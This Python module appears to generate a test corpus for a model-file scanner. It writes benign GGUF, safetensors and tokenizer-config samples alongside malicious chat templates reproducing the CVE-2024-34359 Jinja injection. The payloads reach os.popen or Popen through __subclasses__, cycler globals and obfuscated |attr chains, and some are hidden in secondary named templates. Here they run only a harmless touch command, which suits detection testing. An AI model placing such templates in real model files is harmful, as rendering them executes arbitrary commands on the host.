"""GGUF, safetensors and chat-template samples.

Benign files are written by the real libraries (``gguf.GGUFWriter``, ``safetensors``) with
chat templates in the public form of well-known model families. Malicious templates reproduce
the server-side template injection of CVE-2024-34359 ("Llama Drama"): Jinja expressions that
walk from a template object to ``os.popen``. They are only ever written, never rendered.
"""

from __future__ import annotations

import json

from tests.corpus.sample import CorpusWriter

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}"
    "{% endfor %}"
)
ZEPHYR = (
    "{% for message in messages %}\n{% if message['role'] == 'user' %}\n"
    "{{ '<|user|>\\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'system' %}\n"
    "{{ '<|system|>\\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'assistant' %}\n"
    "{{ '<|assistant|>\\n'  + message['content'] + eos_token }}\n"
    "{% endif %}\n{% if loop.last and add_generation_prompt %}\n"
    "{{ '<|assistant|>' }}\n{% endif %}\n"
    "{% endfor %}"
)
GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}"
    "{{ raise_exception('System role not supported') }}{% endif %}"
    "{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}"
    "{% else %}{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"
)


def _subclasses_payload(command: str) -> str:
    return (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        '{% if "warning" in x.__name__ %}'
        f"{{{{ x()._module.__builtins__['__import__']('os').popen({command!r}).read() }}}}"
        "{% endif %}{% endfor %}" + CHATML
    )


def _globals_payload(command: str) -> str:
    return f"{{{{ cycler.__init__.__globals__.os.popen({command!r}).read() }}}}" + CHATML


def _attr_filter_payload(command: str) -> str:
    return (
        "{% set c = '__cla' ~ 'ss__' %}{% set b = '__ba' ~ 'se__' %}"
        "{% set s = '__subcla' ~ 'sses__' %}"
        "{% for x in ((() | attr(c)) | attr(b) | attr(s))() %}"
        "{% if x.__name__ == 'Popen' %}"
        f"{{{{ x({command!r}, shell=True) }}}}"
        "{% endif %}{% endfor %}" + LLAMA3
    )


def _gguf(path: str, w: CorpusWriter, templates: dict[str, str]) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(w.path(path), "llama")
    writer.add_context_length(2048)
    writer.add_embedding_length(16)
    writer.add_block_count(1)
    writer.add_tokenizer_model("llama")
    for key, template in templates.items():
        writer.add_string(key, template)
    writer.add_tensor(
        "token_embd.weight", np.random.default_rng(0).standard_normal((32, 16)).astype(np.float32)
    )
    writer.add_tensor("output_norm.weight", np.ones(16, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _gguf_samples(w: CorpusWriter) -> None:
    for name, template in (("chatml", CHATML), ("llama3", LLAMA3), ("mistral", MISTRAL)):
        path = f"gguf/{name}.gguf"
        _gguf(path, w, {"tokenizer.chat_template": template})
        w.add(
            path,
            None,
            label="benign",
            family="gguf",
            technique=f"GGUF with the {name} chat template",
        )
    path = "gguf/llama_drama.gguf"
    _gguf(path, w, {"tokenizer.chat_template": _subclasses_payload(w.touch_command(path))})
    w.add(
        path,
        None,
        label="malicious",
        family="gguf",
        technique="chat template walking __subclasses__ to os.popen",
        advisory="CVE-2024-34359",
    )
    path = "gguf/named_template.gguf"
    payload = _globals_payload(w.touch_command(path))
    _gguf(path, w, {"tokenizer.chat_template": CHATML, "tokenizer.chat_template.rag": payload})
    w.add(
        path,
        None,
        label="malicious",
        family="gguf",
        technique="named chat template reaching cycler.__init__.__globals__",
        advisory="CVE-2024-34359",
    )


def _tokenizer_config(template: object) -> bytes:
    config = {
        "add_bos_token": True,
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 4096,
        "tokenizer_class": "LlamaTokenizer",
        "chat_template": template,
    }
    return json.dumps(config, indent=2).encode()


def _templates(w: CorpusWriter) -> None:
    def add(
        path: str, data: bytes, label: str, technique: str, advisory: str | None = None
    ) -> None:
        w.add(path, data, label=label, family="template", technique=technique, advisory=advisory)  # type: ignore[arg-type]

    add(
        "template/zephyr/tokenizer_config.json",
        _tokenizer_config(ZEPHYR),
        "benign",
        "tokenizer_config.json, Zephyr template",
    )
    add(
        "template/gemma/tokenizer_config.json",
        _tokenizer_config(GEMMA),
        "benign",
        "tokenizer_config.json, Gemma template",
    )
    add(
        "template/chatml/chat_template.jinja",
        CHATML.encode(),
        "benign",
        "standalone ChatML chat_template.jinja",
    )
    path = "template/drama/tokenizer_config.json"
    add(
        path,
        _tokenizer_config(_subclasses_payload(w.touch_command(path))),
        "malicious",
        "tokenizer_config.json with an SSTI template",
        "CVE-2024-34359",
    )
    path = "template/tool_use/tokenizer_config.json"
    named = [
        {"name": "default", "template": MISTRAL},
        {"name": "tool_use", "template": _globals_payload(w.touch_command(path))},
    ]
    add(
        path,
        _tokenizer_config(named),
        "malicious",
        "named template list with an SSTI entry",
        "CVE-2024-34359",
    )
    path = "template/obfuscated/chat_template.jinja"
    add(
        path,
        _attr_filter_payload(w.touch_command(path)).encode(),
        "malicious",
        "dunder names built with ~ and reached through |attr",
        "CVE-2024-34359",
    )


def _safetensors(w: CorpusWriter) -> None:
    import numpy as np
    from safetensors.numpy import save

    rng = np.random.default_rng(0)
    tensors = {
        "embed.weight": rng.standard_normal((64, 16)).astype(np.float32),
        "head.bias": np.zeros(4, np.float16),
    }
    w.add(
        "safetensors/model.safetensors",
        save(tensors),
        label="benign",
        family="safetensors",
        technique="safetensors.numpy, float32 + float16",
    )
    meta = {"format": "pt", "source": "corpus"}
    ints = {"ids": np.arange(100, dtype=np.int64), "mask": np.ones((10, 10), dtype=np.bool_)}
    w.add(
        "safetensors/with_metadata.safetensors",
        save(ints, metadata=meta),
        label="benign",
        family="safetensors",
        technique="safetensors with metadata, int64 + bool",
    )
    try:
        import torch
        from safetensors.torch import save as save_torch
    except ImportError:
        return
    torch.manual_seed(0)
    state = {k: v.contiguous() for k, v in torch.nn.Linear(8, 4).state_dict().items()}
    state["scale"] = torch.ones(4, dtype=torch.bfloat16)
    w.add(
        "safetensors/torch_linear.safetensors",
        save_torch(state),
        label="benign",
        family="safetensors",
        technique="safetensors.torch state dict with bfloat16",
    )


def generate(w: CorpusWriter) -> None:
    """Write the GGUF, chat-template and safetensors samples."""
    if w.wants("gguf"):
        _gguf_samples(w)
    if w.wants("template"):
        _templates(w)
    if w.wants("safetensors"):
        _safetensors(w)
